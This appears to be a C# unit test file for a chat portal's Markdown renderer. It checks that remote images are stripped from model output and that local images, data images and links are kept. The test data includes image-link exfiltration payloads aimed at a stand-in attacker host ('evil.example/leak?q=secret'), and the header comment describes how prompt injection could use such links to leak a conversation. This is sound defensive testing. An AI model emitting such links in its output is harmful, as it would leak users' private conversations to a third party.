using Portal.Web.Chat;

namespace Portal.Tests.Web.Chat;

/// <summary>
/// Finding 7: model output must not make the browser fetch anything. A prompt-injected
/// <c>![](https://x/?q=secret)</c> would leak the conversation to whoever serves that address.
/// </summary>
public sealed class MarkdownImagePolicyTests
{
    private readonly MarkdownRenderer _renderer = new();

    [Theory]
    [InlineData("![chart](https://evil.example/leak?q=secret)")]
    [InlineData("![chart](http://127.0.0.1:9/leak?q=secret)")]
    [InlineData("![chart](//evil.example/leak?q=secret)")]
    [InlineData("![chart][r]\n\n[r]: https://evil.example/leak?q=secret")]
    public void RemoteImage_NotRendered(string markdown)
    {
        var html = _renderer.ToSafeHtml(markdown);

        Assert.DoesNotContain("<img", html, StringComparison.Ordinal);
        Assert.DoesNotContain("evil.example", html, StringComparison.Ordinal);
        Assert.DoesNotContain("127.0.0.1", html, StringComparison.Ordinal);
    }

    [Fact]
    public void PortalImage_Kept() =>
        Assert.Contains("<img src=\"/favicon.svg\" alt=\"logo\">", _renderer.ToSafeHtml("![logo](/favicon.svg)"), StringComparison.Ordinal);

    [Fact]
    public void DataImage_Kept() =>
        Assert.Contains("<img src=\"data:image/png;base64,iVBORw0KGgo=\"", _renderer.ToSafeHtml("![dot](data:image/png;base64,iVBORw0KGgo=)"), StringComparison.Ordinal);

    [Fact]
    public void RemoteLink_StillALink() =>
        Assert.Contains("href=\"https://example.org/\"", _renderer.ToSafeHtml("[docs](https://example.org/)"), StringComparison.Ordinal);
}
